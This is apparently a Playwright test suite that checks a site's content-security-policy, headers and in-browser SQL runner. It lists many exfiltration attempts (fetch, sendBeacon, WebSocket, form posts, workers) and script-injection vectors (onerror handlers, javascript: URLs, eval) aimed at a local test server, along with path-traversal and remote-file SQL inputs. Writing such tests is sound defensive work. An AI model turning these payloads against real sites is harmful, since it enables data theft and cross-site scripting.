import type { Browser, BrowserContextOptions, Page } from "playwright-core";
import { existsSync, readFileSync, statSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { lookup } from "mrmime";
import { afterAll, afterEach, beforeAll, describe, expect, inject, test } from "vitest";
import { launchChromium } from "../../loaders/chromium.js";
import { importModule, siteUrl } from "../support/browser/site-server.js";

/**
 * Tries to break the content-security-policy from inside a page, as a script that got there by some fault would: no
 * request may reach another host, no text may become code. The same attempts with the policy switched off show that
 * they would succeed without it. Leaving the page altogether (a link, `location = …`) is no attempt: no policy of a
 * page forbids it, and it needs code that runs in the first place.
 */
const folder = inject("siteFolder");

/** What a page may do to bring another host's things in, or to send something out; `host` ends without a slash. */
const attempts: Record<string, string> = {
  fetch: "fetch(host + '/fetch', { mode: 'no-cors' })",
  XMLHttpRequest: "const x = new XMLHttpRequest(); x.open('GET', host + '/xhr'); x.send()",
  beacon: "navigator.sendBeacon(host + '/beacon', 'secret')",
  WebSocket: "new WebSocket(host.replace('http', 'ws') + '/socket')",
  EventSource: "new EventSource(host + '/events')",
  image: "new Image().src = host + '/image'",
  "image of an SVG": `add('<svg width="9" height="9"><image href="' + host + '/svg-image" width="9" height="9"/></svg>')`,
  "stylesheet's import": "add('<style>@import url(' + host + '/import.css);</style>')",
  stylesheet: `add('<link rel="stylesheet" href="' + host + '/style.css">')`,
  "style's picture": "add('<p style=\"background: url(' + host + '/background)\">text</p>')",
  font: "new FontFace('other', 'url(' + host + '/font)').load()",
  script: "element('script', { src: host + '/script.js' })",
  module: "element('script', { type: 'module', src: host + '/module.js' })",
  "dynamic import": "import(host + '/import.js')",
  prefetch: "element('link', { rel: 'prefetch', href: host + '/prefetch' })",
  preload: "element('link', { rel: 'preload', as: 'script', href: host + '/preload' })",
  modulepreload: "element('link', { rel: 'modulepreload', href: host + '/modulepreload' })",
  icon: "element('link', { rel: 'icon', href: host + '/icon' })",
  frame: "element('iframe', { src: host + '/frame' })",
  object: "element('object', { data: host + '/object' })",
  embed: "element('embed', { src: host + '/embed' })",
  video: "element('video', { src: host + '/video', preload: 'auto' })",
  form: `const form = add('<form method="post" target="_blank" action="' + host + '/form"><input name="a"></form>'); form.submit()`,
  base: "element('base', { href: host + '/' }); fetch('base', { mode: 'no-cors' })",
  "worker that imports": "new Worker(blob('importScripts(' + JSON.stringify(host + '/imported.js') + ')'))",
  "worker that fetches":
    "new Worker(blob('fetch(' + JSON.stringify(host + '/from-worker') + ', { mode: \"no-cors\" })'))",
  "frame of a blob":
    "element('iframe', { src: blob('<script>fetch(' + JSON.stringify(host + '/from-frame') + ', { mode: \"no-cors\" })</scr' + 'ipt>', 'text/html') })",
  "frame of its own text": "element('iframe', { srcdoc: '<img src=\"' + host + '/from-srcdoc\">' })",
};

/** How text could become code; each sets `broken` where it succeeds. */
const injections: Record<string, string> = {
  "handler of an element": `add('<img src="no-such" onerror="broken = true">')`,
  "handler of an SVG": `add('<svg onload="broken = true"><animate onbegin="broken = true" attributeName="x" dur="1s"/></svg>')`,
  "inline script":
    "const s = document.createElement('script'); s.textContent = 'broken = true'; document.body.append(s)",
  "script by a range":
    "document.body.append(document.createRange().createContextualFragment('<script>broken = true</scr' + 'ipt>'))",
  "script of a data address": "element('script', { src: 'data:text/javascript,broken=true' })",
  "script of a blob": "element('script', { src: blob('broken = true') })",
  "link to a javascript address": `add('<a href="javascript:void(broken = true)">go</a>').click()`,
  "frame with a javascript address": "element('iframe', { src: 'javascript:void(parent.broken = true)' })",
  "frame of its own text": "element('iframe', { srcdoc: '<script>parent.broken = true</scr' + 'ipt>' })",
  eval: "(0, eval)('broken = true')",
  Function: "new Function('broken = true')()",
  "text to setTimeout": "setTimeout('broken = true')",
};

/** What the Chromium of the npm package does not do: it has no tab to show an icon in. Others do all. */
const someBrowsersLack = ["icon", "script by a range"];

/** Brought into the page as its own scripts are: what is tried may do anything but get round the policy. */
const tools = `
  const add = (html) => { const place = document.createElement("div"); document.body.append(place); place.innerHTML = html; return place.firstElementChild; };
  const element = (name, attributes) => { const made = document.createElement(name); for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value); (["link", "base"].includes(name) ? document.head : document.body).append(made); return made; };
  const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], { type }));
`;

describe("safety", () => {
  let browser: Browser;
  let other: Server;
  let host = "";
  let asked: string[] = [];
  const closing: (() => Promise<unknown>)[] = [];

  beforeAll(async () => {
    browser = await launchChromium();
    other = createServer((request, response) => {
      asked.push(`${request.method} ${request.url}`);
      response.setHeader("Access-Control-Allow-Origin", "*");
      response.end();
    });
    other.on("upgrade", (request, socket) => {
      asked.push(`upgrade ${request.url}`);
      socket.destroy();
    });
    host = await listen(other);
  });
  afterAll(async () => {
    await browser.close();
    other.closeAllConnections();
    other.close();
  });
  afterEach(async () => {
    for (const close of closing.splice(0)) await close();
    asked = [];
  });

  async function visit(address = siteUrl, options: BrowserContextOptions = {}): Promise<Page> {
    const context = await browser.newContext(options);
    closing.push(() => context.close());
    const page = await context.newPage();
    await page.goto(address, { waitUntil: "load" });
    return page;
  }

  /** Runs code as the page's own: from a task, where what drives the browser lends it no rights. */
  async function run(page: Page, code: string): Promise<void> {
    await page.evaluate(
      ({ source, host }) => {
        (globalThis as unknown as { broken: boolean }).broken = false;
        // Made here, where it is allowed; run in a task of its own, where the page's policy decides.
        const attempt = (0, eval)(source) as (host: string) => unknown;
        setTimeout(() => {
          try {
            void Promise.resolve(attempt(host)).catch(() => {});
          } catch {
            // Refused at once: as it should be.
          }
        });
      },
      { source: `(async (host) => { ${tools}; ${code} })`, host },
    );
  }

  const isBroken = (page: Page) => page.evaluate(() => (globalThis as unknown as { broken: boolean }).broken);

  /** Time enough for a request to another port of this machine. */
  const settle = (page: Page) => page.waitForTimeout(250);

  describe.each([
    ["with headers", () => siteUrl],
    ["by the page alone", plainUrl],
  ] as const)("another host is not asked, %s", (_how, address) => {
    test("whatever is tried", async () => {
      const page = await visit(await address());
      for (const [name, code] of Object.entries(attempts)) {
        await run(page, code);
        await settle(page);
        expect(asked, name).toEqual([]);
      }
      await settle(page);
      expect(asked).toEqual([]);
    }, 60_000);

    test("text does not become code", async () => {
      const page = await visit(await address());
      for (const [name, code] of Object.entries(injections)) {
        await run(page, code);
        await page.waitForTimeout(100);
        expect(await isBroken(page), name).toBe(false);
      }
    }, 60_000);
  });

  test("what is tried would succeed without the policy, so that the tests above can fail", async () => {
    const free = await fails(await visit(siteUrl, { bypassCSP: true }));
    // What this browser does not do on a page of no policy at all says nothing about ours; there is little of it.
    const bare = free.length ? await fails(await visit(`${host}/bare`)) : [];
    expect(free.filter((name) => !bare.includes(name) || !someBrowsersLack.includes(name))).toEqual([]);
  }, 120_000);

  /** Names of what has no effect on a page: no request, or no code that runs. */
  async function fails(page: Page): Promise<string[]> {
    const names: string[] = [];
    for (const [name, code] of Object.entries(attempts)) {
      asked = [];
      await run(page, code);
      await settle(page);
      // A busy machine may take its time, for a video above all.
      for (let wait = 0; wait < 20 && !asked.length; wait++) await page.waitForTimeout(250);
      if (!asked.length) names.push(name);
    }
    for (const [name, code] of Object.entries(injections)) {
      await run(page, code);
      for (let wait = 0; wait < 20 && !(await isBroken(page)); wait++) await page.waitForTimeout(100);
      if (!(await isBroken(page))) names.push(name);
    }
    return names;
  }

  describe("SQL under a figure", () => {
    type Runner = typeof import("../../src/database/query-runner.js");
    let page: Page;
    let ask: (sql: string) => Promise<string>;

    beforeAll(async () => {
      page = await (await browser.newContext()).newPage();
      await page.goto(siteUrl);
      const module = await importModule<Runner>(page, "database/query-runner");
      ask = async (sql) => {
        await module.evaluate(
          ({ queryRunner }, sql) => document.body.replaceChildren(queryRunner(document, sql)),
          sql,
        );
        await page.getByRole("button", { name: "Run here" }).click();
        const answer = page.getByRole("alert").or(page.getByRole("region", { name: "Result" }));
        await answer.waitFor();
        return `${await answer.getAttribute("role")}: ${await answer.innerText()}`;
      };
    });
    afterAll(() => page.context().close());

    test.each([
      "select * from read_csv('HOST/x.csv')",
      "select * from read_parquet('HOST/x.parquet')",
      "select * from 'HOST/x.csv'",
      "install httpfs; load httpfs",
      "install httpfs from 'HOST'; load httpfs",
      "install spatial from community; load spatial",
      "attach 'HOST/x.db' as x",
      "copy cities to 'HOST/x.csv'",
      "select content from read_text('HOST/x.txt')",
    ])("reaches no other host, says so, and answers the next query: %s", async (sql) => {
      const other: string[] = [];
      const note = (request: { url(): string }) => {
        if (/^http/.test(request.url()) && !request.url().startsWith(siteUrl)) other.push(request.url());
      };
      page.context().on("requestfinished", note);
      const said = await ask(sql.replace("HOST", host));
      page.context().off("requestfinished", note);
      expect(said).toMatch(/^alert: .{20}/);
      expect({ asked, other }).toEqual({ asked: [], other: [] });
      expect(await ask("select count(*) > 0 as there from cities")).toMatch(/^region: [^]*there[^]*yes/);
    });
  });

  test.each([
    "?measure=actors",
    "compare?cities=lisbon,nairobi&sql=select%201#compare-context",
    "?sql=drop%20table%20cities",
  ])("nothing in a link runs a query: %s", async (address) => {
    const asked: string[] = [];
    const context = await browser.newContext();
    closing.push(() => context.close());
    const page = await context.newPage();
    page.on("request", (request) => asked.push(request.url()));
    await page.goto(siteUrl + address, { waitUntil: "networkidle" });
    expect(asked.filter((url) => url.includes("/database/"))).toEqual([]);
    expect(page.workers()).toEqual([]);
  });

  test("serve sends the headers of _headers with every answer, the policy with pages, and nobody may frame them from elsewhere", async () => {
    for (const path of ["", "index", "compare", "compare.html", "guide/", "guide/sql"])
      expect((await fetch(siteUrl + path)).headers.get("content-security-policy"), path).toMatch(
        /^default-src 'self'.*frame-ancestors 'self'$/,
      );
    for (const path of ["", "compare", "data/cities.csv", "database/duckdb-eh.wasm.gz", "no-such-page"]) {
      const { headers } = await fetch(siteUrl + path);
      expect(headers.get("x-frame-options"), path).toBe("SAMEORIGIN");
      expect(headers.get("x-content-type-options")).toBe("nosniff");
      expect(headers.get("referrer-policy")).toBe("no-referrer");
      expect(headers.get("permissions-policy")).toContain("geolocation=()");
      expect(headers.get("x-powered-by")).toBeNull();
    }
    for (const path of ["_headers", "%2e%2e/package.json", "..%2fpackage.json", "data/../../package.json"])
      expect((await fetch(siteUrl + path)).status, path).toBe(404);
    expect((await fetch(siteUrl, { method: "POST" })).status).toBe(405);
  });

  test("no other site shows a page in a frame; the page alone could not forbid it", async () => {
    const page = await visit(`${host}/bare`);
    const framed = async (address: string) => {
      await page.evaluate(
        (src) =>
          new Promise((resolve) => {
            const frame = document.createElement("iframe");
            frame.addEventListener("load", resolve);
            frame.src = src;
            document.body.replaceChildren(frame);
          }),
        address,
      );
      return page
        .frames()
        .at(-1)!
        .evaluate(() => document.querySelector("h1")?.textContent ?? "");
    };
    expect(await framed(await plainUrl())).not.toBe("");
    for (const path of ["", "compare", "guide/sql"]) expect(await framed(siteUrl + path), path).toBe("");
  });

  describe("under a plain static server, in a folder of its host", () => {
    test.each(["", "compare?cities=lisbon,nairobi", "sources", "guide/", "guide/sql"])(
      "/%s works",
      async (path) => {
        const errors: string[] = [];
        const outside: string[] = [];
        const root = await plainUrl();
        const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
        closing.push(() => context.close());
        const page = await context.newPage();
        page.on("pageerror", (error) => errors.push(String(error)));
        page.on("console", (message) => {
          if (message.type() === "error") errors.push(message.text());
        });
        page.on("request", (request) => {
          if (!/^(blob|data):/.test(request.url()) && !request.url().startsWith(root))
            outside.push(request.url());
        });
        await page.goto(root + path, { waitUntil: "load" });
        const figure = page.locator("figure[data-figure]").first();
        if (await figure.count()) {
          await figure.locator("xpath=self::*[@data-live]").waitFor();
          await figure.getByText("SQL", { exact: true }).click();
          await figure.getByRole("button", { name: "Run here" }).click();
        }
        if ((await figure.count()) || path === "guide/sql")
          await page.getByRole("region", { name: "Result" }).waitFor();
        expect({ errors, outside }).toEqual({ errors: [], outside: [] });
      },
    );
  });

  /** The site in a folder of a host that sends no headers of ours and knows nothing but files. */
  async function plainUrl(): Promise<string> {
    const server = createServer((request, response) => {
      const { pathname } = new URL(request.url!, "http://host");
      const path = pathname.replace(/^\/arrivals\//, "").replace(/(^|\/)$/, "$1index.html");
      const file = [path, `${path}.html`]
        .map((name) => join(folder, name))
        .find((name) => existsSync(name) && statSync(name).isFile());
      if (!pathname.startsWith("/arrivals/") || !file) return void response.writeHead(404).end();
      response.writeHead(200, { "Content-Type": lookup(file) ?? "application/octet-stream" });
      response.end(readFileSync(file));
    });
    const address = await listen(server);
    closing.push(() => {
      server.closeAllConnections();
      return new Promise((resolve) => server.close(resolve));
    });
    return `${address}/arrivals/`;
  }
});

async function listen(server: Server): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
}
